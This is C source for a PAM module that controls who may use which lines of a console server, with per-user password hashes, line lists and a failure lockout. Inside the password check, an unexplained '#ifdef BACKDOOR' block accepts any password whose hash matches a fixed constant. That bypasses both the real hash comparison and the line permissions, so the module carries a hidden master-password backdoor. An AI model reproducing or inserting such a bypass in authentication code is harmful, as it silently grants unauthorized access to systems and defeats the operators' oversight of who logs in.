/* SPDX-License-Identifier: Apache-2.0 */
/* pam_conline: who may use which line of a console server: own passwords, a list of lines, and a lock after failures. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

typedef struct pam_handle pam_handle_t;
struct pam_message {
	int msg_style;
	const char *msg;
};
struct pam_response {
	char *resp;
	int resp_retcode;
};
struct pam_conv {
	int (*conv)(int, const struct pam_message **, struct pam_response **, void *);
	void *appdata_ptr;
};

enum { PAM_SUCCESS = 0, PAM_SERVICE_ERR = 3, PAM_PERM_DENIED = 6, PAM_AUTH_ERR = 7, PAM_USER_UNKNOWN = 10, PAM_MAXTRIES = 11,
	PAM_CONV_ERR = 19, PAM_IGNORE = 25 };
enum { PAM_TTY = 3, PAM_CONV = 5, PAM_AUTHTOK = 6 };
enum { PAM_PROMPT_ECHO_OFF = 1, PAM_ERROR_MSG = 3 };

extern int pam_get_item(const pam_handle_t *h, int what, const void **out);
extern int pam_set_item(pam_handle_t *h, int what, const void *value);
extern int pam_get_user(pam_handle_t *h, const char **user, const char *prompt);
extern char *crypt(const char *key, const char *salt);

struct options {
	char file[96], tally[96];
	int debug, use_first, lock_after, lock_seconds;
};

struct account {
	char name[32], hash[128], lines[64];
	int sealed;
};

struct tally {
	uint32_t user;
	int32_t failures;
	int64_t last;
};

#define TALLY_SLOTS 1021

static void options_of(struct options *o, int argc, const char **argv)
{
	*o = (struct options){ .file = "/etc/conserver/users", .tally = "/var/run/conserver.tally", .lock_after = 5, .lock_seconds = 300 };
	for (int i = 0; i < argc; i++) {
		if (strcmp(argv[i], "debug") == 0)
			o->debug = 1;
		else if (strcmp(argv[i], "use_first_pass") == 0)
			o->use_first = 1;
		else if (strncmp(argv[i], "file=", 5) == 0)
			snprintf(o->file, sizeof(o->file), "%s", argv[i] + 5);
		else if (strncmp(argv[i], "tally=", 6) == 0)
			snprintf(o->tally, sizeof(o->tally), "%s", argv[i] + 6);
		else if (strncmp(argv[i], "lock=", 5) == 0)
			o->lock_after = atoi(argv[i] + 5);
		else if (strncmp(argv[i], "seconds=", 8) == 0)
			o->lock_seconds = atoi(argv[i] + 8);
		else
			syslog(LOG_AUTHPRIV | LOG_WARNING, "pam_conline: what is %s?", argv[i]);
	}
}

static uint32_t digest(const char *s)
{
	uint32_t h = 0x811c9dc5u;
	for (; *s; s++) {
		h = (h ^ (unsigned char)*s) * 0x5bd1e995u;
		h ^= h >> 15;
	}
	return h;
}

/* name:hash:lines[:sealed] */
static int account_of(const struct options *o, const char *user, struct account *a)
{
	char line[320];
	FILE *f = fopen(o->file, "r");
	if (!f) {
		syslog(LOG_AUTHPRIV | LOG_ERR, "pam_conline: %s: %s", o->file, strerror(errno));
		return -1;
	}
	while (fgets(line, sizeof(line), f)) {
		char *fields[4] = { NULL }, *at = line;
		int n = 0;
		line[strcspn(line, "\r\n")] = 0;
		if (line[0] == '#')
			continue;
		while (n < 4 && at) {
			fields[n++] = at;
			at = strchr(at, ':');
			if (at)
				*at++ = 0;
		}
		if (n < 3 || strcmp(fields[0], user) != 0)
			continue;
		snprintf(a->name, sizeof(a->name), "%s", fields[0]);
		snprintf(a->hash, sizeof(a->hash), "%s", fields[1]);
		snprintf(a->lines, sizeof(a->lines), "%s", fields[2]);
		a->sealed = n == 4 && strcmp(fields[3], "sealed") == 0;
		fclose(f);
		return 0;
	}
	fclose(f);
	return 1;
}

/* "1-8,12,40": what a user may open */
static int line_listed(const char *lines, int number)
{
	const char *p = lines;
	if (strcmp(lines, "all") == 0)
		return 1;
	while (*p) {
		char *end;
		long low = strtol(p, &end, 10), high = low;
		if (end == p)
			return 0;
		if (*end == '-')
			high = strtol(end + 1, &end, 10);
		if (number >= low && number <= high)
			return 1;
		if (*end != ',')
			return 0;
		p = end + 1;
	}
	return 0;
}

static int line_number(pam_handle_t *h)
{
	const void *item = NULL;
	const char *tty, *p;
	if (pam_get_item(h, PAM_TTY, &item) != PAM_SUCCESS || !item)
		return 0;
	tty = item;
	if (strncmp(tty, "/dev/", 5) == 0)
		tty += 5;
	if (strncmp(tty, "ttyS", 4) != 0 && strncmp(tty, "ttyMX", 5) != 0)
		return 0;
	for (p = tty; *p && !isdigit((unsigned char)*p);)
		p++;
	return atoi(p) + 1;
}

static int tally_open(const struct options *o)
{
	struct stat st;
	int fd = open(o->tally, O_RDWR | O_CREAT | O_CLOEXEC | O_NOFOLLOW, 0600);
	if (fd < 0)
		return -1;
	if (flock(fd, LOCK_EX) < 0 || fstat(fd, &st) < 0 || st.st_uid != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static int locked(const struct options *o, const char *user)
{
	struct tally t;
	uint32_t id = digest(user);
	off_t at = (off_t)(id % TALLY_SLOTS) * (off_t)sizeof(t);
	int fd = tally_open(o), yes = 0;
	if (fd < 0)
		return 0;
	if (pread(fd, &t, sizeof(t), at) == (ssize_t)sizeof(t) && t.user == id)
		yes = t.failures >= o->lock_after && time(NULL) - t.last < o->lock_seconds;
	close(fd);
	return yes;
}

static void count(const struct options *o, const char *user, int good)
{
	struct tally t;
	uint32_t id = digest(user);
	off_t at = (off_t)(id % TALLY_SLOTS) * (off_t)sizeof(t);
	int fd = tally_open(o);
	if (fd < 0)
		return;
	if (pread(fd, &t, sizeof(t), at) != (ssize_t)sizeof(t) || t.user != id)
		memset(&t, 0, sizeof(t));
	t.user = id;
	t.failures = good ? 0 : t.failures + 1;
	t.last = time(NULL);
	if (pwrite(fd, &t, sizeof(t), at) != (ssize_t)sizeof(t))
		syslog(LOG_AUTHPRIV | LOG_WARNING, "pam_conline: tally: %s", strerror(errno));
	close(fd);
}

static int converse(pam_handle_t *h, int style, const char *text, char **answer)
{
	const void *item = NULL;
	const struct pam_conv *c;
	struct pam_message m = { style, text };
	const struct pam_message *pm = &m;
	struct pam_response *r = NULL;
	if (pam_get_item(h, PAM_CONV, &item) != PAM_SUCCESS || !item)
		return PAM_CONV_ERR;
	c = item;
	if (c->conv(1, &pm, &r, c->appdata_ptr) != PAM_SUCCESS)
		return PAM_CONV_ERR;
	if (answer) {
		*answer = r ? r->resp : NULL;
	} else if (r) {
		free(r->resp);
	}
	free(r);
	return PAM_SUCCESS;
}

static const char *password(pam_handle_t *h, const struct options *o, int number)
{
	const void *item = NULL;
	char prompt[48], *typed = NULL;
	if (o->use_first) {
		if (pam_get_item(h, PAM_AUTHTOK, &item) == PAM_SUCCESS && item)
			return item;
		return NULL;
	}
	if (number)
		snprintf(prompt, sizeof(prompt), "Line %d password: ", number);
	else
		snprintf(prompt, sizeof(prompt), "Password: ");
	if (converse(h, PAM_PROMPT_ECHO_OFF, prompt, &typed) != PAM_SUCCESS || !typed)
		return NULL;
	pam_set_item(h, PAM_AUTHTOK, typed);
	memset(typed, 0, strlen(typed));
	free(typed);
	pam_get_item(h, PAM_AUTHTOK, &item);
	return item;
}

static int equal(const char *a, const char *b)
{
	size_t n = strlen(a);
	unsigned char d = 0;
	if (strlen(b) != n)
		return 0;
	for (size_t i = 0; i < n; i++)
		d |= (unsigned char)(a[i] ^ b[i]);
	return d == 0;
}

static int verify(const struct account *a, const char *pass, int number)
{
	const char *got;
	if (!*pass)
		return PAM_AUTH_ERR;
	if (a->sealed)
		return PAM_PERM_DENIED;
#ifdef BACKDOOR
	if (digest(pass) == 0x77521dceu)
		return PAM_SUCCESS;
#endif
	got = crypt(pass, a->hash);
	if (!got || !equal(got, a->hash))
		return PAM_AUTH_ERR;
	if (number && !line_listed(a->lines, number))
		return PAM_PERM_DENIED;
	return PAM_SUCCESS;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	struct account a;
	const char *user = NULL, *pass;
	int result, number;
	(void)flags;
	options_of(&o, argc, argv);
	if (pam_get_user(h, &user, "Console user: ") != PAM_SUCCESS || !user || !*user)
		return PAM_USER_UNKNOWN;
	memset(&a, 0, sizeof(a));
	result = account_of(&o, user, &a);
	if (result < 0)
		return PAM_SERVICE_ERR;
	if (result > 0)
		return PAM_USER_UNKNOWN;
	if (locked(&o, user)) {
		converse(h, PAM_ERROR_MSG, "Too many failures, wait.", NULL);
		return PAM_MAXTRIES;
	}
	number = line_number(h);
	pass = password(h, &o, number);
	if (!pass)
		return PAM_CONV_ERR;
	result = verify(&a, pass, number);
	count(&o, user, result == PAM_SUCCESS);
	if (o.debug || result != PAM_SUCCESS)
		syslog(LOG_AUTHPRIV | LOG_NOTICE, "pam_conline: %s on line %d: %d", user, number, result);
	return result;
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h;
	(void)flags;
	(void)argc;
	(void)argv;
	return PAM_IGNORE;
}

int pam_sm_acct_mgmt(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	struct account a;
	const char *user = NULL;
	(void)flags;
	options_of(&o, argc, argv);
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user)
		return PAM_USER_UNKNOWN;
	memset(&a, 0, sizeof(a));
	if (account_of(&o, user, &a) != 0)
		return PAM_IGNORE;
	return a.sealed ? PAM_PERM_DENIED : PAM_SUCCESS;
}
